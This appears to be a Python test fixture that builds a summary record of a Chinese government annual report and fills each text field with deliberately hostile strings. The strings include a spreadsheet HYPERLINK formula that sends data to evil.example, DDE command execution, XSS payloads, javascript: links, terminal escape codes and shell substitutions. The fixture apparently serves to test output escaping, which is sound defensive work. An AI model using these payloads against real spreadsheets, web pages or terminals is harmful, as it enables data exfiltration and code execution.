"""A dossier whose every text wants to be something else than text."""

import hashlib

from summarize import __version__
from summarize.records.dossier import Dossier

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"><svg/onload=alert(3)>' onmouseover='alert(4)",
    "![p](http://evil.example/pixel.png) [link](javascript:alert(5)) <http://evil.example>",
    "| a | b |\n| --- | --- |\n# 标题\n- 列表",
    "\x1b]52;c;aGFjaw==\x07\x1b[2J\x1b]0;owned\x07\x9b31m",
    "\u202e反转\u2066\u200b零宽\ufeff",
    "]]></style></script><!-- &lt;b&gt; &#x41; _x0041_",
    "{{ title }} %s {0} ${HOME} `id`",
    "\t=1+1",
    "-2+3",
    "+86 10 1234",
)


def hostile_dossier(path: str = "恶意.txt") -> Dossier:
    body = "\n".join(HOSTILE) + "\n共收到申请3件。\n"
    body = body.replace("\x00", "")
    places, at = [], 0
    for text in HOSTILE:
        places.append({"start": at, "end": at + len(text), "quote": text})
        at += len(text) + 1
    nasty = "".join(HOSTILE)
    item = {"match": "exact", "readers": ["rules"], "theme": "other"}
    reading = {**places[1], "by": "rules.text", "value": 3}
    return Dossier.model_validate(
        {
            "source": {"path": path, "sha256": "0" * 64, "bytes": 1, "format": "txt", "encoding": "utf-8"},
            "text": {
                "chars": len(body),
                "sha256": hashlib.sha256(body.encode()).hexdigest(),
                "script": "simplified",
                "repairs": [],
                "damaged": [{"start": 3, "end": 8}],
                "body": body,
            },
            "report": {
                "kind": "annual_report",
                "title": nasty,
                "agency": HOSTILE[0] + HOSTILE[3],
                "agency_certain": True,
                "region": {"county": HOSTILE[3]},
                "level": "county",
                "year": 2019,
                "period": None,
                "published": None,
                "index_number": None,
                "document_number": None,
                "format": None,
                "sections": [],
            },
            "readers": ["rules", "model"],
            "summary": {
                "text": nasty,
                "lang": "zh",
                "by": "model",
                "points": [
                    {"text": text, "match": "exact", **place} for text, place in zip(HOSTILE, places, strict=True)
                ],
            },
            "problems": [{**item, "text": text, **place} for text, place in zip(HOSTILE, places, strict=True)]
            + [{**item, "text": nasty, "match": "none", "claimed": nasty, "quote": "", "start": 0, "end": 0}],
            "commitments": [
                {**item, "text": text, "deadline": text, **place} for text, place in zip(HOSTILE, places, strict=True)
            ],
            "stated": {"problems": True, "commitments": True},
            "indicators": [
                {
                    "code": "requests.received",
                    "label": HOSTILE[3],
                    "applicant": None,
                    "unit": HOSTILE[0],
                    "value": 3,
                    "state": "stated",
                    "approximate": False,
                    "scope": "year",
                    "readings": [reading],
                    "verdict": "single",
                }
            ],
            "checks": [
                {
                    "kind": "foreign_name",
                    "name": None,
                    "verdict": "fail",
                    "severity": "high",
                    "message": {"zh": text, "en": text},
                    "codes": [],
                    "blame": "source",
                    "evidence": [place],
                    "elsewhere": [{**place, "path": HOSTILE[3]}],
                }
                for text, place in zip(HOSTILE, places, strict=True)
            ],
            "provenance": {"gongkai": __version__},
        }
    )
